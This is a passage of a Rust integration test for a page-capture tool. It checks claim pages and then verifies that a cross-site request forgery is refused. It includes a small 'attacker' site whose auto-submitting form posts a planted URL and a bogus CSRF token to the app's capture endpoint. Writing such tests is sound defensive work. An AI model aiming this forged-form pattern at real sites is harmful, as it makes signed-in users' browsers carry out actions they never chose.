    let claim_page = acting(&select, &format!("{base}/ui/captures/{capture_id}/text"));
    assert_eq!(
        claim_page["marks"],
        serde_json::json!([QUOTE]),
        "{claim_page}"
    );
    assert!(claim_page["text"]
        .as_str()
        .unwrap()
        .contains("digest and passage verified now"));
    let claim_id = claim_page["location"]
        .as_str()
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_string();
    let shown = work.run(&["claim", "show", &claim_id]);
    assert!(shown.status.success(), "{}", stderr_text(&shown));

    // A form on another site, posted to custody by the signed-in browser.
    let target = format!("{base}/ui/capture");
    let app = Router::new().route(
        "/",
        get(move || {
            let target = target.clone();
            async move {
                axum::response::Html(format!(
                    "<!doctype html><title>attacker</title><form method=post action=\"{target}\">\
                     <input name=url value=\"http://example.invalid/planted\"><input name=csrf value=\"00\"></form>"
                ))
            }
        }),
    );
    let attacker = site::serve_app(app).await;
    let answer = acting(
        "(() => { setTimeout(() => document.forms[0].submit(), 50); return true; })()",
        &format!("http://{attacker}/"),
    );
    assert!(
        answer["location"].as_str().unwrap().starts_with(&base),
        "{answer}"
    );
    let text = answer["text"].as_str().unwrap().to_string();
    assert!(
        text.contains("Sign in") || text.contains("not sent from custody"),
        "{text}"
    );
    let all = String::from_utf8(work.ok(&["captures", "--json"])).unwrap();
    assert_eq!(all.lines().count(), 1, "nothing planted: {all}");
}
